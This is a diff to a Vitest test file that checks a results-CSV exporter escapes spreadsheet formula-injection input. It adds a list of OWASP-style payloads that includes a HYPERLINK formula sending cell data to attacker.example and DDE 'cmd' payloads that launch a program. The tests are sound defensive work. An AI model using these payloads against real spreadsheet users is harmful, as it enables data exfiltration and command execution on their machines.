@@ -1,5 +1,7 @@
+import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import { parseBatchCsv } from './batch-csv';
+import { checkBatchRow } from './batch-rows';
 import type { BatchTask } from './batch-types';
 import { resultsCsv } from './results-csv';
 
@@ -73,5 +75,57 @@ describe('resultsCsv', () => {
       'result.dates': '["Mon"]',
     });
     expect(parsed.records[1]!['result.confirmed']).toBe('');
+  });
+
+  // OWASP's CSV-injection list; the values come from uploaded lists and from what callees say.
+  const ATTACKS = [
+    '=HYPERLINK("https://attacker.example/?x="&A1,"Open")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '\t=1+1',
+    '\r=1+1',
+    '=1+1\nsecond line',
+  ];
+
+  it.each(ATTACKS)('escapes a cell starting like %j in every column, header included', (attack) => {
+    const csv = resultsCsv([
+      task({
+        id: attack,
+        phone_number: attack,
+        goal: attack,
+        status: attack as BatchTask['status'],
+        outcome: attack as BatchTask['outcome'],
+        summary: attack,
+        failure_reason: attack,
+        metadata: { [attack]: attack, pupil: attack },
+        result: { [attack]: attack, confirmed: attack },
+      }),
+    ]);
+    const parsed = Papa.parse<string[]>(csv, { skipEmptyLines: true });
+    const cells = parsed.data.flat();
+    const formulaLike = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell));
+    expect(formulaLike).toEqual([]);
+    // Each attack is kept as text, behind the apostrophe, in every column that carried it.
+    expect(cells.filter((cell) => cell === `'${attack}`).length).toBeGreaterThanOrEqual(11);
+    // And every escaped cell is quoted, as OWASP asks.
+    for (const line of csv.split('\r\n').slice(1, 2))
+      expect(line.startsWith(`"'${attack.slice(0, 1)}`)).toBe(true);
+  });
+
+  it('leaves ordinary cells as they are', () => {
+    const csv = resultsCsv([task({ summary: 'Kim is fine = good', goal: 'a-b', cost_usd: 0.5 })]);
+    expect(parseBatchCsv(csv).records[0]).toMatchObject({
+      summary: 'Kim is fine = good',
+      goal: 'a-b',
+      cost_usd: '0.50',
+    });
+  });
+
+  it('can be uploaded again: the escaped phone numbers read as numbers', () => {
+    const csv = resultsCsv([task({ phone_number: '+14155550100' })]);
+    const parsed = parseBatchCsv(csv);
+    expect(parsed.records[0]!.phone_number).toBe("'+14155550100");
+    expect(checkBatchRow(parsed.records[0]!, 1, 'Ask').body.phone_number).toBe('+14155550100');
   });
 });
